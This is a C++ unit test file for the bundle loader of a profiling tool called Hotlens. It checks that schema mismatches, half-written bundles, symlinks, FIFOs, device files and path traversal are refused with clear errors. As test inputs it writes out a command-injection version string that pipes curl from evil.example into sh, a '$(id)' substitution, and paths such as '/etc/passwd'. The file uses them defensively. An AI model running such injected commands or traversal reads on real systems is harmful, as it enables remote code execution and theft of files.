#include <sys/stat.h>

#include "annotator/profile/build/load.h"
#include "tests/unit/catch.h"
#include "tests/unit/profile/fixture.h"

using namespace hotlens;
using namespace hotlens::profile;

namespace {

Error refused(const std::filesystem::path& path) {
  const auto profile = load(path);
  REQUIRE_FALSE(profile.has_value());
  return profile.error();
}

}  // namespace

TEST_CASE("a bundle of a newer schema says so and what to install") {
  const TemporaryFolder folder;
  Json manifest = manifest_json();
  manifest["schema"] = "hotlens.bundle/2";
  manifest["hotlens"] = "0.9.0";
  const Error error = refused(write_bundle(folder.path() / "b", manifest));
  CHECK(error.code == ErrorCode::unsupported);
  CHECK(error.message.find("newer Hotlens") != std::string::npos);
  CHECK(error.message.find("0.9.0") != std::string::npos);
  CHECK(error.where.ends_with("manifest.json"));
}

TEST_CASE("a version out of a bundle is no part of a sentence unless it is one") {
  const TemporaryFolder folder;
  Json manifest = manifest_json();
  manifest["schema"] = "hotlens.bundle/2";
  for (const char* version :
       {"1'; curl evil.example | sh #", "0.9.0\n$(id)", "", "-r requirements.txt", "9999999999999999999999999999999"}) {
    CAPTURE(version);
    manifest["hotlens"] = version;
    const Error error = refused(write_bundle(folder.path() / "b", manifest));
    CHECK(error.message.ends_with("install a newer Hotlens"));
  }
}

TEST_CASE("nothing outside a bundle is read because it names it") {
  const TemporaryFolder folder;
  const std::filesystem::path bundle = write_bundle(folder.path() / "b"), outside = folder.path() / "outside.json.gz";
  const std::filesystem::path trace = bundle / "trace-0.json.gz";
  SECTION("a link out of it") {
    std::filesystem::rename(trace, outside);
    std::filesystem::create_symlink(outside, trace);
    CHECK(refused(bundle).where == trace.string());
  }
  SECTION("a pipe that nobody writes") {
    std::filesystem::remove(trace);
    REQUIRE(::mkfifo(trace.c_str(), 0600) == 0);
    CHECK(refused(bundle).where == trace.string());
  }
  SECTION("tables that are devices") {
    std::filesystem::remove(bundle / "model.json");
    std::filesystem::create_symlink("/dev/zero", bundle / "model.json");
    CHECK(refused(bundle).where.ends_with("model.json"));
  }
}

TEST_CASE("half-written bundles are named as such") {
  const TemporaryFolder folder;
  const std::filesystem::path bundle = write_bundle(folder.path() / "b");
  SECTION("still under its temporary name") {
    std::filesystem::rename(bundle, folder.path() / "b.partial");
    CHECK(refused(folder.path() / "b.partial").message.find("half written") != std::string::npos);
  }
  SECTION("no manifest") {
    std::filesystem::remove(bundle / "manifest.json");
    CHECK(refused(bundle).message.find("half written") != std::string::npos);
  }
  SECTION("manifest cut short") {
    write_text(bundle / "manifest.json", "{\"schema\":\"hotlens.bun");
    CHECK(refused(bundle).message.find("half written") != std::string::npos);
  }
  SECTION("no model") {
    std::filesystem::remove(bundle / "model.json");
    CHECK(refused(bundle).where.ends_with("model.json"));
  }
  SECTION("no trace") {
    std::filesystem::remove(bundle / "trace-0.json.gz");
    CHECK(refused(bundle).where.ends_with("trace-0.json.gz"));
  }
}

TEST_CASE("a folder without any part of a bundle is not called half written") {
  const TemporaryFolder folder;
  write_text(folder.path() / "train.py", "import torch");
  const Error error = refused(folder.path());
  CHECK(error.message.find("no bundle") != std::string::npos);
  CHECK(error.where == folder.path().string());
}

TEST_CASE("a manifest cannot lead out of its folder") {
  const TemporaryFolder folder;
  for (const char* name : {"../secret.json", "/etc/passwd", "a/../../secret.json", ""}) {
    Json manifest = manifest_json();
    manifest["traces"] = {{{"file", name}, {"rank", 0}}};
    CAPTURE(name);
    CHECK(refused(write_bundle(folder.path() / "b", manifest)).code == ErrorCode::malformed);
  }
}

TEST_CASE("other JSON and other folders are no bundles") {
  const TemporaryFolder folder;
  std::filesystem::create_directories(folder.path() / "b");
  write_text(folder.path() / "b" / "manifest.json", R"({"name": "a web app"})");
  CHECK(refused(folder.path() / "b").message.find("not a Hotlens bundle") != std::string::npos);
  CHECK(refused(folder.path() / "none.json").code == ErrorCode::not_found);
}

TEST_CASE("a trace without any work says what was read") {
  const TemporaryFolder folder;
  write_text(folder.path() / "t.json", R"({"traceEvents": [{"ph": "M", "name": "process_name", "pid": 1, "tid": 1, "args": {}}]})");
  CHECK(refused(folder.path() / "t.json").message.find("events read: 0") != std::string::npos);
}
